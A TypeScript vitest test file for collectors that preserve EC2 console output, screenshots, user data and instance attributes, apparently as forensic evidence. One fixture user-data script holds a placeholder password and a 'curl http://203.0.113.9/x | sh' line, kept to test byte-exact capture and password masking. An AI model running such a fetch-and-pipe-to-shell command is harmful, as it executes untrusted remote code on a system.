import { gzipSync } from 'node:zlib';
import { expect, it } from 'vitest';
import type { Collected, Collector } from '../../kernel/index.ts';
import { failure } from '../testing/fake-context.ts';
import { fakeInstance, fakeWorld } from '../testing/fake-instance.ts';
import { collector as consoleOutput } from './console-output.ts';
import { collector as consoleScreenshot } from './console-screenshot.ts';
import { ATTRIBUTES, collector as instanceAttributes } from './instance-attributes.ts';
import { collector as userData } from './user-data.ts';

const base64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');
const collect = async (collector: Collector, ctx: Parameters<Collector['collect']>[0]) => {
  const items: Collected[] = [];
  for await (const item of collector.collect(ctx)) items.push(item);
  return items;
};
const ctx = (answers: Parameters<typeof fakeInstance>[1]) => fakeInstance(fakeWorld(), answers);

it('keeps the console output as the bytes the guest wrote, both buffers', async () => {
  const wrote = Buffer.from([0x1b, 0x5b, 0x33, 0x31, 0x6d, 0xff, 0x0a]);
  const items = await collect(
    consoleOutput,
    ctx({
      answers: {
        'ec2:GetConsoleOutput': ({ input }) => ((input as { Latest?: boolean }).Latest ? failure('UnsupportedOperation') : { Output: base64(wrote) }),
      },
    }),
  );
  expect(items.map((item) => item.name)).toEqual(['console-output', 'console-output-masked', 'console-output-latest']);
  expect(Buffer.from(items[0]!.data!).equals(wrote)).toBe(true);
  expect(items[0]!.reading).toHaveLength(1);
  expect(items[2]!.unavailable).toContain('UnsupportedOperation');
});

it('keeps the screenshot as a picture, never waking the machine', async () => {
  const one = ctx({ answers: { 'ec2:GetConsoleScreenshot': { ImageData: base64(Buffer.from([0xff, 0xd8, 0xff])) } } });
  expect(await collect(consoleScreenshot, one)).toMatchObject([{ mediaType: 'image/jpeg', data: Buffer.from([0xff, 0xd8, 0xff]) }]);
  expect(one.calls[0]?.input).not.toHaveProperty('WakeUp');
});

it('keeps the user data whole, and says when there is none', async () => {
  const script = '#!/bin/sh\nDB_PASSWORD=hunter2hunter2 ./start\ncurl http://203.0.113.9/x | sh\n';
  for (const bytes of [Buffer.from(script), gzipSync(script)]) {
    const [whole, masked] = await collect(userData, ctx({ answers: { 'ec2:DescribeInstanceAttribute': { UserData: { Value: base64(bytes) } } } }));
    expect(Buffer.from(whole!.data!).equals(bytes)).toBe(true);
    expect(masked!.name).toBe('user-data-masked');
    expect(Buffer.from(masked!.data!).toString()).toBe(script.replace('hunter2hunter2', '[masked]'));
  }
  expect((await collect(userData, ctx({ answers: { 'ec2:DescribeInstanceAttribute': {} } })))[0]?.note?.en).toContain('no user data');
});

it('asks for every attribute once', async () => {
  const one = ctx({});
  expect(await collect(instanceAttributes, one)).toHaveLength(ATTRIBUTES.length);
  expect(new Set(one.calls.map((call) => (call.input as { Attribute: string }).Attribute))).toEqual(new Set(ATTRIBUTES));
});
